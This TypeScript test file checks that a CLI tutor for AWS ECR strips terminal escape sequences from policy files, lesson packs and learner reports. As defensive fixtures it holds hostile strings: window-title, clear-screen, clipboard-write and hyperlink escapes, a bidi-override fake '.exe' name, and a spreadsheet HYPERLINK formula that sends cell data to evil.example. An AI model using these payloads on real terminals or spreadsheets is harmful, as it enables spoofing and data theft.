/**
 * Escape sequences from outside never reach the terminal raw (issue 14): OSC 0 (window title),
 * CSI 2J (clear), OSC 52 (clipboard write), OSC 8 (hyperlink) and U+202E (bidi override), from a
 * policy file (`policy lint`, text and JSON), a lesson pack (`lessons list`, `lessons validate`,
 * `status`), learners' reports (`class` as md, csv and json; `report` Markdown), and error
 * messages. Each command runs through `main`, the same path as the shipped bundle.
 */
import { mkdtemp, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli.js';
import { memoryIo } from '../../src/io.js';
import { reportMarkdown, type LearnerReport } from '../../src/instructor/report.js';
import { csvCell, jsonForTerminal } from '../../src/text/sanitize.js';

const PACK = fileURLToPath(new URL('../fixtures/hostile-pack/', import.meta.url));
const ESC = '\u001b';
const BEL = '\u0007';
/** The hostile strings, each a different attack. */
const OSC0 = `${ESC}]0;PWNED${BEL}`;
const CSI2J = `${ESC}[2J`;
const OSC52 = `${ESC}]52;c;ZWNobyBwd25lZA==${BEL}`;
const OSC8 = `${ESC}]8;;https://evil.example/${ESC}\\link${ESC}]8;;${ESC}\\`;
const RLO = '\u202e';
const ALL = `${OSC0}${CSI2J}${OSC52}${OSC8}${RLO}gnp.exe`;

/** Nothing a terminal would act on or hide: no ESC, BEL, other C0 but \n \t, C1, bidi. */
function expectHarmless(text: string): void {
  // eslint-disable-next-line no-control-regex -- looking for control characters is the point
  const bad = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.exec(text);
  expect(
    bad
      ? `control U+${bad[0].charCodeAt(0).toString(16)} at ${bad.index}: ${JSON.stringify(text.slice(Math.max(0, bad.index - 20), bad.index + 20))}`
      : 'none',
  ).toBe('none');
}

let dir: string;
const env = { ...process.env };
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ecr-tutor-escapes-'));
  process.env.ECR_TUTOR_HOME = join(dir, 'home');
});
afterAll(async () => {
  process.env.ECR_TUTOR_HOME = env.ECR_TUTOR_HOME;
  if (env.ECR_TUTOR_HOME === undefined) delete process.env.ECR_TUTOR_HOME;
  await rm(dir, { recursive: true, force: true });
});

async function run(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = memoryIo();
  const code = await main(argv, io);
  return { code, out: io.stdout(), err: io.stderr() };
}

describe('a policy file', () => {
  const policy = () =>
    JSON.stringify(
      {
        Version: '2012-10-17',
        Statement: [
          {
            Sid: `Bad${ALL}`,
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::123456789012:user/x${OSC52}` },
            Action: [`ecr:Push${CSI2J}${RLO}`],
          },
        ],
      },
      null,
      2,
    )
      .replace(/\\u001b/g, ESC)
      .replace(/\\u0007/g, BEL);

  it('`policy lint` shows messages and quoted lines harmless, the caret under the right column', async () => {
    const file = join(dir, 'policy.json');
    await writeFile(file, policy());
    const r = await run('policy', 'lint', file);
    expect(r.code).toBe(1);
    expectHarmless(r.out + r.err);
    expect(r.out).toContain('<U+202E>');
    // the caret stands under the start of the action on the quoted (sanitised) line
    const lines = r.out.split('\n');
    const i = lines.findIndex((l) => l.trimStart().startsWith('"ecr:Push'));
    expect(i).toBeGreaterThan(0);
    expect(lines[i + 1]!.indexOf('^')).toBe(lines[i]!.indexOf('"ecr:Push'));
  });

  it('`policy lint --json` escapes them as \\uXXXX, and the JSON still parses to the same text', async () => {
    const file = join(dir, 'policy.json');
    await writeFile(file, policy());
    const r = await run('policy', 'lint', file, '--json');
    expectHarmless(r.out);
    expect(r.out).toMatch(/\\u202e/);
    const parsed = JSON.parse(r.out) as { findings: Array<{ message: string }> };
    expect(parsed.findings.some((f) => f.message.includes(RLO))).toBe(true);
  });

  it('an error message naming a hostile file name is harmless', async () => {
    const r = await run('policy', 'lint', join(dir, `missing${OSC0}${RLO}.json`));
    expect(r.code).toBe(2);
    expectHarmless(r.err);
    expect(r.err).toContain('<U+202E>');
  });
});

describe('a lesson pack', () => {
  it('`lessons list` shows titles and summaries harmless, and skips the broken lesson by name', async () => {
    const r = await run('lessons', 'list', '--lessons', PACK);
    expect(r.code).toBe(0);
    expectHarmless(r.out + r.err);
    expect(r.out).toContain('escapes  Escapes lesson <U+202E>gnp.exe (1 step)');
    expect(r.out).toContain('Copy this link now');
    // the escape sequences are removed, not shown: their payloads are gone too
    expect(r.out).not.toMatch(/PWNED|evil\.example|ZWNo/);
    expect(r.err).toMatch(/skipped .*hostile-pack\/evil: it has problems/);
  });

  it('`lessons validate` prints problems harmless', async () => {
    const bad = join(dir, 'pack', `bad${OSC0}`);
    await mkdir(bad, { recursive: true });
    await writeFile(join(bad, 'lesson.yaml'), `id: "x${ESC}]0;PWNED${BEL}"\ntitle: t\n`);
    const r = await run('lessons', 'validate', join(dir, 'pack'));
    expect(r.code).toBe(1);
    expectHarmless(r.out + r.err);
  });

  it('`status` shows lesson and step titles harmless', async () => {
    const r = await run('status', '--lessons', PACK);
    expectHarmless(r.out + r.err);
    expect(r.out).toContain('Escapes lesson <U+202E>gnp.exe');
  }, 60_000);
});

describe("learners' reports", () => {
  function hostileReport(): LearnerReport {
    return {
      kind: 'ecr-tutor-report',
      version: 1,
      generatedAt: '2026-12-01T10:00:00.000Z',
      learner: `=HYPERLINK("https://evil.example/?"&A1,"click")${OSC0}`,
      lesson: { id: `l${CSI2J}`, title: `Lesson ${ALL}` },
      target: { kind: 'sandbox', region: 'us-east-1' },
      finished: false,
      totals: { passed: 0, skipped: 0, failed: 1, notStarted: 0, steps: 1 },
      steps: [
        {
          id: `s${OSC52}`,
          title: `Step ${OSC8}${RLO}`,
          optional: false,
          status: 'failed',
          check: 'fail',
          summary: `Not yet ${CSI2J}`,
          details: [`detail ${OSC0}`],
          claimed: 'failed',
          attempts: 1,
          hintsUsed: 0,
          checkRef: { name: 'x', params: {} },
        },
      ],
    };
  }

  async function reportsDir(): Promise<string> {
    const d = await mkdtemp(join(dir, 'reports-'));
    await writeFile(join(d, 'ana.json'), JSON.stringify(hostileReport()));
    await writeFile(join(d, `bad${RLO}.json`), `{"kind":"x${'\\u001b'}]0;PWNED${'\\u0007'}"}`);
    return d;
  }

  it('`class` (Markdown) shows every field harmless', async () => {
    const r = await run('class', await reportsDir());
    expect(r.code).toBe(0);
    expectHarmless(r.out + r.err);
    expect(r.out).toContain('<U+202E>');
  });

  it('`class --format csv` neutralises the formula and removes the escapes', async () => {
    const r = await run('class', await reportsDir(), '--format', 'csv');
    expectHarmless(r.out);
    const row = r.out.split('\n')[1]!;
    expect(row.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
  });

  it('`class --format json` escapes them as \\uXXXX', async () => {
    const r = await run('class', await reportsDir(), '--format', 'json');
    expect(r.out).toContain('\\u001b');
    expectHarmless(r.out);
    JSON.parse(r.out);
  });

  it("a learner's report in Markdown is harmless", () => {
    expectHarmless(reportMarkdown(hostileReport()));
  });

  it('jsonForTerminal escapes DEL, C1 and bidi controls JSON.stringify leaves raw', () => {
    const v = { s: `a\u007fb\u009bc${RLO}d\u2028` };
    expect(JSON.stringify(v)).toContain(RLO);
    expect(jsonForTerminal(v)).toBe('{"s":"a\\u007fb\\u009bc\\u202ed\\u2028"}');
    expect(JSON.parse(jsonForTerminal(v))).toEqual(v);
  });
});

describe('the shipped bundle', () => {
  it('the TUI frame shows the hostile lesson harmless (no title, clipboard or link escape reaches the terminal)', async () => {
    const { spawnTutor } = await import('../helpers/pty.js');
    const t = await spawnTutor(['--lessons', PACK, 'escapes'], { cols: 100, rows: 30 });
    try {
      const s = await t.waitFor('Escapes lesson');
      expect(s).toContain('<U+202E>gnp.exe');
      expect(s).not.toMatch(/PWNED|evil\.example|ZWNo/);
      // the raw bytes: none of the pack's sequences (Ink's own drawing sequences aside)
      // eslint-disable-next-line no-control-regex -- looking for escape sequences is the point
      expect(t.output()).not.toMatch(/\u001b\]0;|\u001b\]52;|\u001b\]8;|\u202e|PWNED/);
      t.press('q');
      await t.waitForExit();
    } finally {
      await t.kill();
    }
  }, 60_000);

  it('--plain prints the hostile lesson harmless', async () => {
    const { spawn } = await import('node:child_process');
    const { launcher } = await import('../helpers/pty.js');
    const home = await mkdtemp(join(dir, 'plain-'));
    const out = await new Promise<string>((resolve) => {
      const c = spawn(process.execPath, [launcher, '--plain', '--lessons', PACK, 'escapes'], {
        cwd: home,
        env: {
          PATH: process.env.PATH,
          HOME: home,
          ECR_TUTOR_HOME: home,
          AWS_CONFIG_FILE: '/nonexistent',
          AWS_SHARED_CREDENTIALS_FILE: '/nonexistent',
          AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true',
        },
      });
      let text = '';
      c.stdout.on('data', (b: Buffer) => (text += b.toString()));
      c.stderr.on('data', (b: Buffer) => (text += b.toString()));
      c.stdin.end('h\nq\n');
      c.on('close', () => resolve(text));
    });
    expect(out).toContain('Escapes lesson <U+202E>gnp.exe');
    expect(out).toContain('with a clipboard write');
    expectHarmless(out);
    expect(out).not.toMatch(/PWNED|evil\.example|ZWNo/);
  }, 60_000);
});
